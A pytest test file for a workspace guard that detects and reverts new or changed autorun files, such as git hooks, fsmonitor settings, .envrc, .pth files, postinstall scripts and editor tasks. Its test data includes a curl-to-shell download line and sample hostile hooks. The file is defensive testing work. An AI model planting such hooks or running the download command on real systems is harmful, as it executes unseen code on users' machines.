"""The guard's second look: what runs by itself is compared before and after, and put back."""

import hashlib
import json
import os
import subprocess

import pytest

from interpreter.policies.autorun import AutorunGuard, FlaggedFile


@pytest.fixture
def workspace(tmp_path):
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    return tmp_path


@pytest.fixture
def guard(workspace):
    guard = AutorunGuard(workspace)
    guard.begin()
    yield guard
    guard.close()


def test_ordinary_work_is_not_flagged(guard, workspace):
    (workspace / "main.py").write_text("print()")
    subprocess.run(["git", "-C", str(workspace), "add", "main.py"], check=True)
    subprocess.run(["git", "-C", str(workspace), "config", "user.name", "Ann"], check=True)
    assert guard.end() == ()


@pytest.mark.parametrize(
    "path",
    [
        ".git/hooks/pre-commit",
        ".git/commondir",
        ".git/config.worktree",
        ".git/info/attributes",
        "sub/.git/hooks/post-checkout",
        "sub/.git",
        "a/b/.envrc",
        "lib/sitecustomize.py",
        "x/evil.pth",
        ".claude/settings.json",
    ],
)
def test_a_new_place_is_flagged_and_removed(guard, workspace, path):
    (workspace / path).parent.mkdir(parents=True, exist_ok=True)
    (workspace / path).write_text("x")
    flags = guard.end()
    assert flags == (FlaggedFile(path, "added"),)
    assert guard.revert(flags) == ()
    assert not (workspace / path).exists()


def test_a_changed_file_gets_its_content_and_mode_back(workspace):
    file = workspace / ".envrc"
    file.write_text("export A=1\n")
    file.chmod(0o640)
    guard = AutorunGuard(workspace)
    guard.begin()
    file.write_text("curl example.org | sh\n")
    file.chmod(0o777)
    flags = guard.end()
    assert flags == (FlaggedFile(".envrc", "changed"),)
    guard.revert(flags)
    assert file.read_text() == "export A=1\n"
    assert file.stat().st_mode & 0o777 == 0o640
    guard.close()


def test_git_is_not_made_to_run_things(guard, workspace):
    config = workspace / ".git/config"
    command = ["git", "-C", str(workspace), "config", "core.fsmonitor", "/tmp/x"]
    subprocess.run(command, check=True)
    flags = guard.end()
    assert flags == (FlaggedFile(".git/config", "changed"),)
    digest = hashlib.sha256(config.read_bytes()).hexdigest()
    assert guard.end({".git/config": digest}) == ()  # the user has seen it
    guard.revert(flags)
    assert "fsmonitor" not in config.read_text()


def test_only_the_scripts_of_a_package_that_run_by_themselves_matter(guard, workspace):
    manifest = workspace / "package.json"
    manifest.write_text(json.dumps({"name": "a", "scripts": {"test": "true"}}))
    assert guard.end() == ()
    manifest.write_text(json.dumps({"name": "a", "scripts": {"postinstall": "sh x"}}))
    assert guard.end() == (FlaggedFile("package.json", "added"),)


def test_a_new_repository_and_a_new_environment_are_ordinary(guard, workspace):
    subprocess.run(["git", "init", "-q", str(workspace / "sub")], check=True)
    (workspace / "sub/.vscode").mkdir()
    (workspace / "sub/.vscode/settings.json").write_text("{}")
    (workspace / "env/lib").mkdir(parents=True)
    (workspace / "env/pyvenv.cfg").write_text("home = /usr/bin")
    (workspace / "env/lib/distutils.pth").write_text("import os")
    assert guard.end() == ()


def test_what_only_looks_like_a_new_environment_hides_nothing(workspace):
    (workspace / "src").mkdir()
    (workspace / "src/main.py").write_text("old")
    guard = AutorunGuard(workspace)
    guard.begin()
    for name in ("pyvenv.cfg", ".envrc"):
        (workspace / "src" / name).write_text("x")
    assert guard.end() == (FlaggedFile("src/.envrc", "added"),)
    guard.close()


def test_a_link_does_not_lead_the_guard_out_of_the_workspace(tmp_path):
    outside, workspace = tmp_path / "outside", tmp_path / "workspace"
    for directory in (outside, workspace / ".vscode"):
        directory.mkdir(parents=True)
    (outside / "tasks.json").write_text("precious")
    (workspace / ".vscode/tasks.json").write_text("{}")
    guard = AutorunGuard(workspace)
    guard.begin()
    (workspace / ".vscode/tasks.json").write_text("evil")
    flags = guard.end()
    (workspace / ".vscode/tasks.json").unlink()
    (workspace / ".vscode").rmdir()
    (workspace / ".vscode").symlink_to(outside)
    assert guard.revert(flags) == (".vscode/tasks.json",)
    assert guard.end() == (FlaggedFile(".vscode", "added"),)
    assert (outside / "tasks.json").read_text() == "precious"
    guard.close()


def test_a_link_in_the_place_of_a_file_is_replaced_not_followed(tmp_path):
    workspace, outside = tmp_path / "workspace", tmp_path / "precious"
    workspace.mkdir()
    outside.write_text("precious")
    (workspace / ".envrc").write_text("mine")
    guard = AutorunGuard(workspace)
    guard.begin()
    (workspace / ".envrc").unlink()
    (workspace / ".envrc").symlink_to(outside)
    guard.revert(guard.end())
    assert outside.read_text() == "precious"
    assert (workspace / ".envrc").read_text() == "mine"
    guard.close()


def test_a_bare_repository_is_noticed(guard, workspace):
    bare = workspace / "bare"
    for name in ("objects", "refs"):
        (bare / name).mkdir(parents=True)
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    assert guard.end() == ()
    (bare / "config").write_text("[core]\n\tfsmonitor = x\n")
    assert guard.end() == (FlaggedFile("bare/config", "added"),)


def test_a_large_file_is_flagged_though_only_a_new_one_can_go(workspace):
    large = "x" * (2 << 20)
    (workspace / ".npmrc").write_text(large)
    guard = AutorunGuard(workspace)
    guard.begin()
    assert guard.end() == ()
    (workspace / ".npmrc").write_text(large.replace("x", "y"))
    (workspace / ".envrc").write_text(large)
    flags = guard.end()
    assert flags == (
        FlaggedFile(".envrc", "added"),
        FlaggedFile(".npmrc", "changed", can_revert=False),
    )
    assert guard.revert(flags) == (".npmrc",)
    assert not (workspace / ".envrc").exists()
    guard.close()


def test_a_file_that_only_looks_unchanged_is_flagged(workspace):
    file = workspace / ".envrc"
    file.write_text("one")
    guard = AutorunGuard(workspace)
    guard.begin()
    times = file.stat()
    file.write_text("two")
    os.utime(file, ns=(times.st_atime_ns, times.st_mtime_ns))
    assert guard.end() == (FlaggedFile(".envrc", "changed"),)
    guard.close()


def test_of_installed_packages_only_what_python_reads_when_it_starts_is_looked_at(workspace):
    packages = workspace / ".venv/lib/python3.11/site-packages"
    (packages / "numpy/.vscode").mkdir(parents=True)
    guard = AutorunGuard(workspace)
    guard.begin()
    (packages / "numpy/.vscode/tasks.json").write_text("{}")  # nobody opens that in an editor
    (packages / "evil.pth").write_text("import os")
    assert guard.end() == (
        FlaggedFile(".venv/lib/python3.11/site-packages/evil.pth", "added", can_revert=True),
    )
    guard.close()
